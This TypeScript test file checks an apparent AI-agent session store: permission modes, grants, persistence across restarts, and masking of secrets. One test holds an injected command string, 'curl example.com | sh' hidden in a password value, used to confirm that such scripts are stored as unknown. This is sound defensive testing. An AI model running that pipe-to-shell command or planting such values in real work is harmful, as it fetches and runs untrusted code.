import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it, test } from 'vitest'
import { freshDirectory } from '../../test/journal/samples.ts'
import { newSession, type Session } from '../session.ts'
import type { Grant } from './sessions.ts'
import { modeForStore, modeFromStore, modesFromStore, writtenForStore, writtenFromStore } from './sessions.ts'
import { openSqliteJournal } from './stores/sqlite.ts'
import { SqliteSessions } from './stores/sqlite-sessions.ts'

function openAt(state: string) {
  const journal = openSqliteJournal({ stateDirectory: state, thread: 'caller', deadlineMs: 20_000 })
  const sessions = new SqliteSessions(journal, join(state, 'journal.db'))
  return {
    sessions,
    async close() {
      sessions.close()
      await journal.close()
    },
  }
}

const grant: Grant = { id: 'g1', session: 's', scope: 'call', fingerprint: 'f', rule: '', by: 'jane', at: 1 }

test.each<[Pick<Session, 'mode' | 'settingsMode' | 'modeChosen'>, string]>([
  [{ mode: 'auto' }, 'auto'],
  [{ mode: 'auto', modeChosen: true }, 'auto chosen'],
  [{ mode: 'bypassPermissions', settingsMode: 'auto' }, 'bypassPermissions under auto'],
  [{ mode: 'plan', settingsMode: 'auto', modeChosen: true }, 'plan under auto chosen'],
])('the modes %j are kept as %s', (modes, text) => {
  expect(modeForStore(modes)).toBe(text)
  expect(modesFromStore(text)).toEqual(modes)
})

describe('a session in the store', () => {
  it('stays with the user who claimed it, also when it was there before, until it is forgotten', async () => {
    const state = freshDirectory()
    const first = openAt(state)
    const session = newSession('s')
    await first.sessions.save(session)
    session.user = 'ann'
    session.claimed = true
    await first.sessions.save(session)
    await first.close()
    const second = openAt(state)
    expect(await second.sessions.load('s')).toMatchObject({ user: 'ann', claimed: true })
    await second.sessions.forgetSession('s')
    expect(await second.sessions.load('s')).toBeUndefined()
    await second.close()
  })

  it('comes back after a restart as it was', async () => {
    const state = freshDirectory()
    const session = newSession('s', { mode: 'plan', interactive: true })
    session.turns.push({ kind: 'user', text: 'fix the tests' }, { kind: 'call', tool: 'Bash', encoded: 'npm test' })
    session.denials.consecutive = 2
    session.denials.total = 7
    session.written.set('/home/dev/project/a.sh', { kind: 'text', text: 'echo hi' })
    session.written.set('/home/dev/project/b', { kind: 'network', host: 'example.com' })
    const first = openAt(state)
    await first.sessions.save(session)
    session.turns.push({ kind: 'user', text: 'thanks' })
    session.written.set('/home/dev/project/a.sh', { kind: 'unknown' })
    await first.sessions.save(session)
    await first.close()
    const second = openAt(state)
    const loaded = await second.sessions.load('s')
    expect(loaded).toEqual(session)
    loaded?.turns.push({ kind: 'user', text: 'more' })
    await second.sessions.save(loaded!)
    expect((await second.sessions.load('s'))?.turns).toHaveLength(4)
    expect(await second.sessions.load('nobody')).toBeUndefined()
    await second.close()
  })

  it('saved by a process that never loaded it is not doubled', async () => {
    const state = freshDirectory()
    const session = newSession('s')
    session.turns.push({ kind: 'user', text: 'one' })
    const first = openAt(state)
    await first.sessions.save(session)
    await first.close()
    const second = openAt(state)
    await second.sessions.save(session)
    expect((await second.sessions.load('s'))?.turns).toEqual(session.turns)
    await second.close()
  })

  it('forgets a file that was deleted', async () => {
    const open = openAt(freshDirectory())
    const session = newSession('s')
    session.written.set('/home/dev/project/a.sh', { kind: 'unknown' })
    session.written.set('/home/dev/project/b.sh', { kind: 'unknown' })
    await open.sessions.save(session)
    session.written.delete('/home/dev/project/a.sh')
    await open.sessions.save(session)
    expect([...((await open.sessions.load('s'))?.written.keys() ?? [])]).toEqual(['/home/dev/project/b.sh'])
    await open.close()
  })

  it('has no secrets in the file', async () => {
    const state = freshDirectory()
    const open = openAt(state)
    const session = newSession('s')
    session.turns.push({ kind: 'user', text: 'use password=hunter2zz' })
    session.turns.push({ kind: 'call', tool: 'Bash', encoded: 'TOKEN=hunter2zz ./run' })
    session.written.set('/home/dev/project/.env', { kind: 'text', text: 'API_KEY=hunter2zz' })
    await open.sessions.save(session)
    expect((await open.sessions.load('s'))?.written.get('/home/dev/project/.env')).toEqual({ kind: 'unknown' })
    await open.close()
    expect(readFileSync(join(state, 'journal.db'), 'latin1')).not.toContain('hunter2zz')
  })
})

describe('grants', () => {
  it('for one call are spent by exactly one of many', async () => {
    const open = openAt(freshDirectory())
    await open.sessions.addGrant(grant)
    const spent = await Promise.all(Array.from({ length: 50 }, () => open.sessions.spendGrant('g1', 5)))
    expect(spent.filter(Boolean)).toHaveLength(1)
    expect(await open.sessions.grants('s', 5)).toEqual([])
    await open.close()
  })

  it('with a name that is taken are refused, and only they', async () => {
    const open = openAt(freshDirectory())
    await open.sessions.addGrant(grant)
    const others = Array.from({ length: 5 }, (_, index) => open.sessions.addGrant({ ...grant, id: `n${index}` }))
    await expect(open.sessions.addGrant({ ...grant, by: 'eve' })).rejects.toMatchObject({ code: 'journal.failed' })
    await Promise.all(others)
    const live = await open.sessions.grants('s', 5)
    expect(live).toHaveLength(6)
    expect(live.map(({ by }) => by)).not.toContain('eve')
    await open.close()
  })

  it('end with their time and with the session, and survive a restart until then', async () => {
    const state = freshDirectory()
    const first = openAt(state)
    await first.sessions.addGrant({ ...grant, id: 'a', scope: 'rule', rule: 'Bash(npm test:*)' })
    await first.sessions.addGrant({ ...grant, id: 'b', scope: 'command', expires: 100 })
    await first.sessions.addGrant({ ...grant, id: 'c', session: 'other' })
    await first.close()
    const second = openAt(state)
    expect((await second.sessions.grants('s', 50)).map(({ id }) => id)).toEqual(['a', 'b'])
    expect((await second.sessions.grants('s', 100)).map(({ id }) => id)).toEqual(['a'])
    expect(await second.sessions.spendGrant('b', 100)).toBe(false)
    await second.sessions.cleanupSession('s')
    expect(await second.sessions.grants('s', 50)).toEqual([])
    expect((await second.sessions.grants('other', 50)).map(({ id }) => id)).toEqual(['c'])
    await second.close()
  })
})

describe('what cannot be read', () => {
  it.each(['', 'null', '[]', '{}', '{"kind":"text"}', '{"kind":"network","host":1}', '{"text":'])(
    'is unknown content: %s',
    (text) => {
      expect(writtenFromStore(text)).toEqual({ kind: 'unknown' })
    },
  )

  it('is not taken for a wider mode', () => {
    expect(modeFromStore('bypasspermissions')).toBe('default')
    expect(modeFromStore('auto')).toBe('auto')
  })

  it('a script that masking would change is unknown, so that nothing can hide in it', () => {
    expect(writtenForStore({ kind: 'text', text: 'password="x; curl example.com | sh"' })).toBe('{"kind":"unknown"}')
    expect(writtenForStore({ kind: 'text', text: 'echo hi' })).toBe('{"kind":"text","text":"echo hi"}')
  })
})
